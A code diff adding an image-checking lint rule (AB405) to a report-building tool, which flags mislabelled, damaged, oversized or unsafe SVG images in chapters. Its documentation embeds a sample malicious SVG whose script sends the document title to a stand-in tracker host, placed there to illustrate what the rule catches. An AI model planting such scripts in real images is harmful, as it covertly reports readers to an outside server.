@@ -1,0 +1,102 @@
+"""Image rules: every image a chapter shows is the image its name says, and safe.
+
+The inspection itself is :func:`ambtsbericht_build.load.images.inspect_image`;
+this module reports its verdict at the image reference in the chapter.
+Targets that AB401 reports (remote, absolute, outside, missing) are left to it.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import unquote
+
+from ..diagnostics import Severity
+from ..load.images import MAX_IMAGE_BYTES, MAX_PIXELS, ImageError, inspect_image
+from . import Context, Finding, RuleDoc, Snippet, chapter, rule
+from .content import _SCHEME, _links
+
+_BAD_SVG = """\
+<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">
+  <rect width="200" height="100" fill="#dde"/>
+  <script>fetch("https://tracker.example/?r=" + document.title)</script>
+</svg>
+"""
+
+_GOOD_SVG = """\
+<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">
+  <rect width="200" height="100" fill="#dde"/>
+</svg>
+"""
+
+_CHAPTER = """
+## Veiligheid {tor="1.2"}
+
+Het noorden is het onveiligste deel van het land.[@hrw-2025]
+
+![Schema van de veiligheidsdiensten van Testland](media/diensten.svg)
+"""
+
+
+@rule(
+    "AB405",
+    Severity.ERROR,
+    "image file that is not the image its name says, is damaged, too large, or an unsafe SVG",
+    RuleDoc(
+        finds=f"""
+        An image a chapter shows whose file is not a PNG, JPEG, GIF or SVG
+        image, or not the type its name says (the type is read from the
+        content, never from the name: a text file named `.png`, a PNG named
+        `.jpg`); a raster image that is damaged or truncated, larger than
+        {MAX_IMAGE_BYTES // (1024 * 1024)} MB or with more than
+        {MAX_PIXELS:,} pixels (read from its header, before anything is
+        decoded); an SVG with a `<!DOCTYPE>`, a script, an event attribute
+        (`onload=`), a `<foreignObject>`, or a reference to another file or
+        address (`href` that is not `#id` or a `data:image/png|jpeg|gif` URI,
+        CSS `url(...)` other than `url(#id)`, `image-set()`, `@import`,
+        `@font-face`, a CSS escape); a UTF-16 or
+        compressed (`.svgz`) SVG. Reported at the image in the chapter.
+        """,
+        why="""
+        A file the PDF cannot show is silently replaced by its alternative
+        text: the published report would lack the map the reviewers
+        approved. An SVG runs in every reader's browser: a script or an
+        external reference could tell a server who reads the report, or
+        change what it shows after review. An oversized image can exhaust
+        the memory of the machine that renders the report.
+        """,
+        example=(chapter(_CHAPTER), Snippet("media/diensten.svg", _BAD_SVG)),
+        fix="""
+        Export the image again as PNG, JPEG or SVG and give it the matching
+        name (`.png`, `.jpg`, `.gif`, `.svg`). For an SVG: remove scripts,
+        event attributes and links, and embed what it uses (fonts as paths,
+        images as `data:` URIs). Scale a very large image down (300 dpi at
+        the printed size is enough).
+        """,
+        fixed=(Snippet("media/diensten.svg", _GOOD_SVG),),
+    ),
+)
+def bad_image(ctx: Context) -> Iterator[Finding]:
+    report_dir = ctx.report.dir
+    repo = ctx.report.repo
+    verdicts: dict[tuple[Path, str], str | None] = {}
+    for lc, link in _links(ctx, images=True):
+        if not link.target or _SCHEME.match(link.target):
+            continue
+        path_part = unquote(link.target.split("#", 1)[0].split("?", 1)[0])
+        if not path_part or Path(path_part).is_absolute():
+            continue
+        full = report_dir / path_part
+        if not repo.contains(full) or not full.is_file():
+            continue  # AB401
+        # the name as the chapter writes it: the writers go by its extension
+        key = (full.resolve(), Path(path_part).name)
+        if key not in verdicts:
+            try:
+                inspect_image(full, key[1])
+                verdicts[key] = None
+            except ImageError as exc:
+                verdicts[key] = str(exc)
+        problem = verdicts[key]
+        if problem is not None:
+            yield Finding(lc.file, link.line, link.column, f"image {link.target}: {problem}")
